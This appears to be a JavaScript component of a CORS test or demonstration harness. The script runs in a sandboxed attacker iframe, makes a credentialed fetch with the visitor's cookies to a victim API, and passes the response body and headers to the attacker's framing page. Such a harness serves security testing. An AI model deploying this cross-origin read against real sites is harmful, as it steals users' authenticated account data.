// The attacker's sandboxed frame: its origin is opaque, so its fetch() says Origin: null. It asks
// the victim API for the account with the visitor's cookies and hands what it got to the page
// that framed it (the attacker's page), which reports it to the attacker's log.
(() => {
  "use strict";
  const me = document.currentScript;
  if (!me) return;
  const { url, runId, parent } = me.dataset;

  async function read() {
    try {
      const response = await fetch(url, { credentials: "include" });
      let body = null;
      try { body = await response.text(); } catch (e) { body = null; }
      return { outcome: "allowed", status: response.status, headers: [...response.headers], body, error: null };
    } catch (e) {
      return { outcome: "blocked", status: null, headers: [], body: null, error: `${e.name}: ${e.message}` };
    }
  }

  read().then((result) => window.parent.postMessage({ runId, result }, parent));
})();
